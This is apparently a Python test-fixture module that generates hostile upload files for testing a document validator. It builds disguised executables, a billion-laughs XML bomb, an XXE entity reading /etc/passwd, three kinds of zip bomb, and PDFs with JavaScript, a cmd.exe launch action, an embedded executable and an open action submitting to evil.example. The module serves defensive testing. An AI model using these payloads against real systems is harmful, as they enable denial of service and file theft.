"""Hostile files, made in the test (nothing checked in): disguised executables and pages, zip
bombs of three kinds, XML entity attacks, and PDFs carrying active content."""
from __future__ import annotations

import io
import zipfile

from docx import Document
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(range(256)) * 8
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 8
HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v2/runs')</script><p>My essay</p></body></html>"
BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
                             for n in range(1, 10))
                  + b']><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                  + b"<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>")
XXE = (b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
       b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
       b"<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>")


def real_docx(paragraphs: list[str] = ("An ordinary paragraph of a draft.",)) -> bytes:
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def docx_with_part(name: str, xml: bytes, base: bytes | None = None) -> bytes:
    """A real DOCX whose part `name` is replaced (or added) with `xml`."""
    source = zipfile.ZipFile(io.BytesIO(base or real_docx()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in source.infolist():
            if member.filename != name:
                archive.writestr(member.filename, source.read(member.filename))
        archive.writestr(name, xml)
    return buffer.getvalue()


def ratio_bomb_docx() -> bytes:
    """document.xml of 50 MB of one repeated byte: ~1000x compression."""
    padding = b"<w:p><w:r><w:t>" + b"a" * (50 * 1_048_576) + b"</w:t></w:r></w:p>"
    return docx_with_part("word/document.xml", padding)


def total_size_bomb_docx() -> bytes:
    """Many modest parts whose declared total passes the total-size limit (each ratio < 100)."""
    buffer = io.BytesIO(real_docx())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_STORED) as archive:
        chunk = bytes(range(256)) * 4096  # 1 MB that does not compress
        for number in range(210):
            archive.writestr(f"word/media/blob{number}.bin", chunk)
    return buffer.getvalue()


def many_members_docx(count: int = 1500) -> bytes:
    buffer = io.BytesIO(real_docx())
    with zipfile.ZipFile(buffer, "a") as archive:
        for number in range(count):
            archive.writestr(f"customXml/extra{number}.xml", "<x/>")
    return buffer.getvalue()


PAPER_LINES = tuple(f"Ordinary text of a paper, line {number}, on heat in dense urban districts." for number in range(1, 13))


def text_pdf(lines: tuple[str, ...] | list[str] = PAPER_LINES) -> bytes:
    buffer = io.BytesIO()
    drawing = canvas.Canvas(buffer, pagesize=A4)
    for number, line in enumerate(lines):
        drawing.drawString(72, 760 - 16 * number, line)
    drawing.showPage()
    drawing.save()
    return buffer.getvalue()


def pdf_with(kind: str, base: bytes | None = None) -> bytes:
    """A PDF with active content: "javascript" (open action), "launch", "embedded_file", "open_action"."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(base or text_pdf())))
    if kind == "javascript":
        action = writer._add_object(DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                                                     NameObject("/JS"): TextStringObject("app.alert('pwned');")}))
        tree = writer._add_object(DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("start"), action])}))
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    elif kind == "open_action":
        writer.add_open_action(JavaScript("this.submitForm('http://evil.example/')"))
    elif kind == "launch":
        launch = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(launch)
    elif kind == "embedded_file":
        writer.add_attachment("payload.exe", EXE)
    else:
        raise ValueError(kind)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()
